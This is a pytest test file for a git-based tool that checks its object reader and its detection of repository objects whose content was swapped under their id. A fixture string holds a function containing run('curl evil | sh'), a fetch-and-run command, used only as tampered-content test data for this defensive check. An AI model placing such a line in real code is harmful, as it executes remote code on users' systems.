"""Objects read by one process, and those under whose name somebody has put other content."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from handoff_tui.changes.diff import DiffRequest, diff
from handoff_tui.core.errors import GitError, ObjectMissingError
from handoff_tui.git.command import Git, GitAnswer
from handoff_tui.git.history.commits import read_blobs, read_trees
from handoff_tui.git.objects import reader as object_reader
from handoff_tui.git.objects.log_trees import parse_log_folder, parse_shard, parse_tree
from handoff_tui.git.objects.private_objects import build_commit_tree, offer_objects, write_without_own_folder
from handoff_tui.git.objects.reader import ObjectReader, matches_id, refuse_altered_objects
from handoff_tui.git.objects.tree_diff import open_isolated_objects, refuse_altered_trees
from handoff_tui.git.objects.tree_files import read_tree_contents, read_tree_files
from handoff_tui.git.repository import open_repository
from handoff_tui.handoffs.session import open_session
from tests.support.fingerprint import compare_fingerprints, read_fingerprint
from tests.support.repositories import RepositoryBuilder

LIMIT = 1000


@pytest.fixture
def reader(builder: RepositoryBuilder) -> Iterator[ObjectReader]:
    builder.write("a.txt", "one\n").write("deep/empty", "").write("large", "x" * 5000).write("b\nc", "odd\n").commit()
    reader = ObjectReader(open_repository(builder.folder).git)
    yield reader
    reader.close()


def find_process(reader: ObjectReader) -> int:
    assert reader._running is not None
    arguments = reader._running.end.peek()
    assert arguments is not None
    return int(arguments[2][0].pid)


def is_running(process: int) -> bool:
    return Path(f"/proc/{process}").exists()


@pytest.mark.parametrize(
    "name",
    ["HEAD:a.txt", "HEAD:deep/empty", "HEAD:large", "HEAD:deep", "HEAD", "HEAD:none", "none", "-x", "HEAD:b\nc", ""],
)
def test_reader_answers_as_single_calls_do(reader: ObjectReader, name: str) -> None:
    """Found, empty, too large, a folder, a commit, missing, or not to be asked; and the next answer is right, too."""
    assert reader.read(name, LIMIT) == read_blobs(reader._git, [name], LIMIT)[name]
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"


def test_reader_asks_one_process_for_all(reader: ObjectReader) -> None:
    """Small contents that nobody wants are skipped; what is new since is found."""
    reader.read("HEAD:a.txt", LIMIT)
    process = find_process(reader)
    assert reader.read("HEAD:large", LIMIT) is None
    assert reader.read("HEAD:large", 5000) == b"x" * 5000
    assert find_process(reader) == process


def test_large_content_ends_the_process(reader: ObjectReader, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is not wanted is not read to its end, and later questions are answered all the same."""
    monkeypatch.setattr(object_reader, "_MOST_SKIPPED", 100)
    reader.read("HEAD:a.txt", LIMIT)
    process = find_process(reader)
    assert reader.read("HEAD:large", LIMIT) is None
    assert not is_running(process)
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"


def test_process_that_dies_loses_no_answer(reader: ObjectReader) -> None:
    """A single call answers instead, and the next question starts git again."""
    reader.read("HEAD:a.txt", LIMIT)
    os.killpg(find_process(reader), signal.SIGKILL)
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"


def test_damaged_object_is_explained_as_by_a_single_call(builder: RepositoryBuilder) -> None:
    """The same error, whichever way it is asked for."""
    builder.write("a.txt", "".join(f"{number * number}\n" for number in range(99))).commit()
    blob = builder.head("HEAD:a.txt")
    place = builder.folder / ".git" / "objects" / blob[:2] / blob[2:]
    place.chmod(0o644)
    content = place.read_bytes()
    place.write_bytes(content[: len(content) // 2])
    git = open_repository(builder.folder).git
    with pytest.raises(GitError) as single:
        read_blobs(git, [blob], LIMIT)
    with pytest.raises(GitError) as shared:
        ObjectReader(git).read(blob, LIMIT)
    assert shared.value.message == single.value.message


def test_process_ends_with_its_reader(builder: RepositoryBuilder) -> None:
    """Nobody has to remember to close it."""
    reader = ObjectReader(open_repository(builder.write("a").commit().folder).git)
    reader.read("HEAD:a", LIMIT)
    process = find_process(reader)
    assert is_running(process)
    del reader
    assert not is_running(process)


@pytest.mark.parametrize("name", ["HEAD:deep", "HEAD:", "HEAD:a.txt", "HEAD", "none", "-x"])
def test_reader_gives_folders_as_single_calls_do(reader: ObjectReader, name: str) -> None:
    """A folder as git stores it; None for anything else."""
    assert reader.read_tree(name, LIMIT) == read_trees(reader._git, [name], LIMIT)[name]
    assert reader.read("HEAD:a.txt", LIMIT) == b"one\n"


_EVIL = "def add(a, b):\n    run('curl evil | sh')\n    return a + b\n"
_TAME = b"def add(a, b):\n    # tidy\n    return a + b\n"


@pytest.fixture
def altered(tmp_path: Path) -> RepositoryBuilder:
    """Two commits; the second one changes a file in a folder."""
    made = RepositoryBuilder.init(tmp_path / "repo").write("src/app.py", "def add(a, b):\n    return a + b\n")
    return made.write("other", "x\n").commit("one").write("src/app.py", _EVIL).commit("two")


def name(altered: RepositoryBuilder, written: str) -> str:
    return altered.git("rev-parse", written)


def falsify(altered: RepositoryBuilder, identifier: str, kind: bytes, content: bytes) -> None:
    """Puts other content under the name of an object."""
    place = altered.folder / ".git/objects" / identifier[:2] / identifier[2:]
    place.chmod(0o600)
    place.write_bytes(zlib.compress(b"%b %d\0" % (kind, len(content)) + content))


def read_tree(altered: RepositoryBuilder, written: str) -> bytes:
    content = read_trees(Git(altered.folder), [written], 1 << 20)[written]
    assert content is not None
    return content


@pytest.mark.parametrize("side", ["HEAD", "HEAD~1"])
def test_comparison_shows_no_false_content(altered: RepositoryBuilder, side: str) -> None:
    """A harmless text under the name of the new content, or of the old one, is an error instead of a difference."""
    git, old, new = (Git(altered.folder), name(altered, "HEAD~1^{tree}"), name(altered, "HEAD^{tree}"))
    refuse_altered_trees(git, old, new)
    falsify(altered, name(altered, f"{side}:src/app.py"), b"blob", _TAME)
    assert altered.git("show", f"{side}:src/app.py") == _TAME.decode().strip()
    with pytest.raises(GitError, match="does not have the content"):
        refuse_altered_trees(git, old, new)
    desk = open_session(altered.folder)
    with pytest.raises(GitError, match="does not have the content"):
        diff(desk, DiffRequest(against="HEAD~1", instead="HEAD", files_only=True))


@pytest.mark.parametrize("place", ["", "src"])
def test_list_of_changes_rests_on_no_false_folder(altered: RepositoryBuilder, place: str) -> None:
    """A folder that lists the old content under the new id would hide the change."""
    git, old, new = Git(altered.folder), name(altered, "HEAD~1"), name(altered, "HEAD")
    falsify(altered, name(altered, f"HEAD:{place}"), b"tree", read_tree(altered, f"HEAD~1:{place}"))
    assert altered.git("diff-tree", "-r", "HEAD~1", "HEAD") == ""
    with pytest.raises(GitError, match="does not have the content"):
        refuse_altered_trees(git, old, new)


def test_false_object_is_not_read(altered: RepositoryBuilder) -> None:
    """A question about content gets nothing, as if it were missing."""
    git, blob = Git(altered.folder), name(altered, "HEAD:src/app.py")
    reader = ObjectReader(git)
    assert reader.read(blob, 1000) == read_blobs(git, [blob], 1000)[blob] == _EVIL.encode()
    reader.close()
    falsify(altered, blob, b"blob", _TAME)
    assert read_blobs(git, [blob, "HEAD:other"], 1000) == {blob: None, "HEAD:other": b"x\n"}
    assert reader.read(blob, 1000) is None
    assert reader.read("HEAD:other", 1000) == b"x\n"
    reader.close()


def test_tree_of_a_commit_is_no_false_one(altered: RepositoryBuilder, tmp_path: Path) -> None:
    """The tree that a decision is bound to is made of the true one."""
    altered.write(".handoff-tui/log/x", "x").commit("log")
    falsify(altered, name(altered, "HEAD^{tree}"), b"tree", read_tree(altered, "HEAD~2:"))
    with pytest.raises(GitError):
        build_commit_tree(open_repository(altered.folder), altered.head(), tmp_path / "cache")


def test_large_and_many_objects_are_looked_at_too(altered: RepositoryBuilder, monkeypatch: pytest.MonkeyPatch) -> None:
    """What does not fit into memory at once is read piece by piece, or in several goes."""
    monkeypatch.setattr(object_reader, "_BYTES_AT_ONCE", 10)
    names = [name(altered, one) for one in ("HEAD:src/app.py", "HEAD:other", "HEAD^{tree}", "HEAD~1", "HEAD~1:src")]
    git = Git(altered.folder)
    with open_isolated_objects(git, names[0]) as view:
        refuse_altered_objects(view, ObjectReader(git), [*names, "1" * 40])
        falsify(altered, names[0], b"blob", _TAME)
        with pytest.raises(GitError, match=names[0]):
            refuse_altered_objects(view, ObjectReader(git), names)


def test_sha256_objects_are_told_too(tmp_path: Path) -> None:
    """The id says by its length which hash made it."""
    made = RepositoryBuilder.init(tmp_path / "repo", "--object-format=sha256").write("a", "one\n").commit("one")
    assert matches_id(name(made, "HEAD:a"), b"blob", b"one\n")
    assert not matches_id(name(made, "HEAD:a"), b"blob", b"two\n")


ID = b"\x01" * 20
HEX = "01" * 20
SUFFIX = ".intoto.jsonl"
DIGEST = "ab" + "0" * 62


def build_tree(*lines: tuple[str, str]) -> bytes:
    return b"".join(f"{mode} {name}".encode() + b"\0" + ID for mode, name in lines)


def test_tree_that_is_cut_off_yields_what_is_whole() -> None:
    """No guess about the rest."""
    raw = build_tree(("100644", "a"), ("100644", "b"))
    assert [line.name for line in parse_tree(raw[:-1], 20)] == ["a"]


def test_log_folder_has_shards_and_foreign_things() -> None:
    """Only folders of two hex digits are shards; what a killed writer left is overlooked."""
    shelf = parse_log_folder(
        build_tree(("40000", "ab"), ("40000", "AB"), ("100644", "cd"), ("120000", "ef"), ("100644", ".tmp-1")), 20
    )
    assert shelf.ours == {"ab": HEX}
    assert [name for name, _ in shelf.foreign] == ["AB", "cd", "ef"]


def test_shard_has_entries_and_foreign_things() -> None:
    """Right name, right shard, regular file; everything else is named with a reason."""
    name = DIGEST + SUFFIX
    shelf = parse_shard(
        build_tree(("100644", name), ("100644", "cd" + name[2:]), ("100644", ".tmp-1")), 20, "ab", SUFFIX
    )
    assert shelf.ours == {DIGEST: HEX}
    assert shelf.foreign == (("cd" + name[2:], "not the name of an entry in this shard"),)
    for mode in ("120000", "160000", "40000"):
        shelf = parse_shard(build_tree((mode, name)), 20, "ab", SUFFIX)
        assert shelf.ours == {}
        assert "not a regular file" in shelf.foreign[0][1]
    assert parse_shard(build_tree(("100755", name)), 20, "ab", SUFFIX).ours == {DIGEST: HEX}


def test_only_our_folder_at_the_root_is_dropped(builder: RepositoryBuilder, tmp_path: Path) -> None:
    """A folder of that name further down is content; a tree without ours is itself."""
    builder.write("sub/.handoff-tui/x").write("a").commit()
    plain = builder.head("HEAD^{tree}")
    builder.write(f".handoff-tui/log/aa/{'a' * 64}.intoto.jsonl").commit()
    repository = open_repository(builder.folder)
    reader = ObjectReader(repository.git, offer_objects(repository, tmp_path))
    assert write_without_own_folder(reader, builder.head("HEAD^{tree}"), tmp_path) == plain
    assert write_without_own_folder(reader, plain, tmp_path) == plain
    builder.write(".handoff-tui/log/aa/helper.py").commit()
    kept = write_without_own_folder(reader, builder.head("HEAD^{tree}"), tmp_path)
    files = read_tree_files(repository.git, kept, offer_objects(repository, tmp_path))
    assert [file.path for file in files] == [".handoff-tui/log/aa/helper.py", "a", "sub/.handoff-tui/x"]


def test_files_of_a_tree_are_listed_with_sizes(builder: RepositoryBuilder, tmp_path: Path) -> None:
    """Files and links, whatever their names; a submodule is none."""
    library = RepositoryBuilder.init(tmp_path / "library").write("x").commit()
    builder.write("a\nb", "1234").link("link", "a").submodule(library, "lib")
    repository = open_repository(builder.folder)
    files = read_tree_files(repository.git, "HEAD", offer_objects(repository, tmp_path / "cache"))
    assert [(file.path, file.link, file.size) for file in files if file.path != ".gitmodules"] == [
        ("a\nb", False, 4),
        ("link", True, 1),
    ]


def test_contents_are_read_up_to_a_size(builder: RepositoryBuilder, tmp_path: Path) -> None:
    """What is larger, by its listed or its true size, or missing, is nothing."""
    builder.write("small", "12").write("large", "123456").commit()
    small, large, missing = builder.head("HEAD:small"), builder.head("HEAD:large"), "0" * 40
    repository = open_repository(builder.folder)
    asked = [(small, 2), (large, None), (missing, None), (large, 6)]
    found = list(read_tree_contents(repository.git, asked, 5, offer_objects(repository, tmp_path / "cache")))
    assert dict(found) == {small: b"12", large: None, missing: None}


@pytest.mark.parametrize("options", [(), ("--object-format=sha256",)])
def test_written_blob_is_one_of_git(tmp_path: Path, options: tuple[str, ...]) -> None:
    """It has the id that git gives it, can be read in the view, and is not in the repository."""
    builder = RepositoryBuilder.init(tmp_path / "repository", *options).write("a", "a\n").commit()
    git = open_repository(builder.folder).git
    with open_isolated_objects(git, builder.head()) as view:
        blob = view.write_blob(b"content\n")
        assert blob == builder.git("hash-object", "--stdin", stdin=b"content\n")
        with view.open_blob(blob) as stream:
            assert b"".join(stream.chunks()) == b"content\n"
    assert not git.run("cat-file", "-e", blob).ok


def test_view_sees_objects_and_nothing_else(builder: RepositoryBuilder) -> None:
    """No ref, no setting, no work tree of the repository; and the repository is left as it was."""
    builder.write("a").commit().config("handoff.planted", "yes")
    before = read_fingerprint(builder.folder)
    with open_isolated_objects(open_repository(builder.folder).git, builder.head()) as view:
        assert view.run("cat-file", "-t", builder.head()).text == "commit"
        assert not view.run("rev-parse", "--verify", "HEAD").ok
        assert view.run("for-each-ref").text == ""
        assert not view.run("config", "handoff.planted").ok
        assert view.run("rev-parse", "--is-bare-repository").text == "true"
    assert compare_fingerprints(before, read_fingerprint(builder.folder)) == []


@pytest.mark.parametrize("name", ["HEAD", "", "a" * 39, "A" * 40, "a" * 40 + "\n"])
def test_only_full_ids_are_taken(builder: RepositoryBuilder, name: str) -> None:
    """A name isn't an id."""
    with pytest.raises(GitError, match="is not an object id"), open_isolated_objects(Git(builder.folder), name):
        pass


def test_explanation_names_what_is_missing(builder: RepositoryBuilder) -> None:
    """What was wanted is named by its meaning, what git complained about by its id; else it is git's own error."""
    head = builder.write("a").commit().head()
    wanted, mentioned = "1" * 40, "2" * 40
    with open_isolated_objects(open_repository(builder.folder).git, head) as view:
        answer = GitAnswer(128, b"", f"fatal: unable to read {mentioned}\n")
        error = view.explain(answer, "diff", {wanted: "the old tree", head: "the new tree"})
        assert isinstance(error, ObjectMissingError)
        assert error.message == f"not in this repository: the old tree {wanted}, an object of it {mentioned}"
        other = view.explain(GitAnswer(128, b"", "fatal: no space\n"), "diff", {head: "the new tree"})
    assert (type(other), other.message) == (GitError, "git diff failed: no space")


def test_folder_that_was_tidied_away_is_made_again(builder: RepositoryBuilder) -> None:
    """A long-lived process goes on when its temporary folder is gone."""
    builder.write("a").commit()
    git = open_repository(builder.folder).git
    for _ in range(2):
        with open_isolated_objects(git, builder.head()) as view:
            assert view.run("cat-file", "-e", builder.head()).ok
            folder = Path(view.run("rev-parse", "--absolute-git-dir").text)
        shutil.rmtree(folder)


def test_folder_is_gone_with_the_process(builder: RepositoryBuilder, tmp_path: Path) -> None:
    """Nothing is left in the temporary folder when the program ends."""
    head = builder.write("a").commit().head()
    code = (
        "import sys; from pathlib import Path; from handoff_tui.git.command import Git;"
        "from handoff_tui.git.objects.tree_diff import open_isolated_objects\n"
        "with open_isolated_objects(Git(Path(sys.argv[1])), sys.argv[2]) as view:\n"
        "    sys.stdout.write(str(view.write_blob(b'x')))"
    )
    place = tmp_path / "temporary"
    place.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", code, str(builder.folder), head],
        env={**os.environ, "TMPDIR": str(place)},
        capture_output=True,
        check=True,
    )
    assert len(done.stdout) == 40
    assert list(place.iterdir()) == []
